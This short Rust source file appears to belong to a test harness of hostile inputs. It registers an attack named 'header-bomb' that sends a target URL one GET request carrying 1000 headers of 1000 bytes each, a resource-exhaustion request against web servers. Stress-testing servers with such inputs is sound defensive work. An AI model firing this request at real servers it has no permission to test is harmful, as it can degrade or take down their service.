//! Sends a megabyte of header fields.

use hostile::prelude::*;

hostile::attack!("header-bomb", attack);

fn attack(_: &Vcon, options: Target) -> Result<Outcome, Failure> {
    let request = (0..1000).fold(http::get(&options.url), |request, at| request.header(&format!("x-{at}"), &"y".repeat(1000)));
    request.retries(0).send()?;
    Ok(Outcome::Next)
}
